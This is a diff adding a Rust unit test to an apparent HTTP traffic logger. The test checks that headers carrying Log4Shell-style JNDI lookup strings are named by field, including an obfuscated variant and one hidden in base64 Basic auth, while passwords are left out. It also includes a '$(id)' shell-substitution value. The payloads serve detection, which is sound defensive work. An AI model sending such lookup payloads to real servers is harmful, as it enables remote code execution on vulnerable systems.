@@ -128,6 +128,26 @@ fn a_response_to_nothing_is_told_and_the_next_ones_are_paired() {
     assert_eq!(talk::<State>(&[(S, timeout)], &[FACTS]).1, [""; 0], "may be sent unasked");
 }
 
+/// Lookups are told by the field that has them, and a password of one is not kept (log4shell: `alice:${jndi:ldap://...}`).
+#[test]
+fn fields_with_a_lookup_are_named() {
+    for (field, wanted) in [
+        ("X-Api-Version: ${${lower:j}ndi:ldap://h/a}", " lookup=X-Api-Version"),
+        ("Cookie: a=1; b=${jndi:rmi://h/a}", " lookup=Cookie"),
+        (
+            "Authorization: Basic YWxpY2U6JHtqbmRpOmxkYXA6Ly9oL2F9",
+            " auth_scheme=Basic lookup=authorization username=alice",
+        ),
+        ("Accept: ${a}\r\nX-B: ${b}", " lookup=Accept"),
+        ("X-Price: $5 {or so}", ""),
+        ("X-Shell: $(id)", ""),
+    ] {
+        let request = format!("GET / HTTP/1.1\r\nHost: h\r\n{field}\r\n\r\n");
+        let (events, _) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
+        assert_eq!(events, [format!("transaction=0 method=GET protocol=HTTP/1.1 url=/ hostname=h{wanted}")]);
+    }
+}
+
 #[test]
 fn user_names_but_no_passwords() {
     for (field, wanted) in [
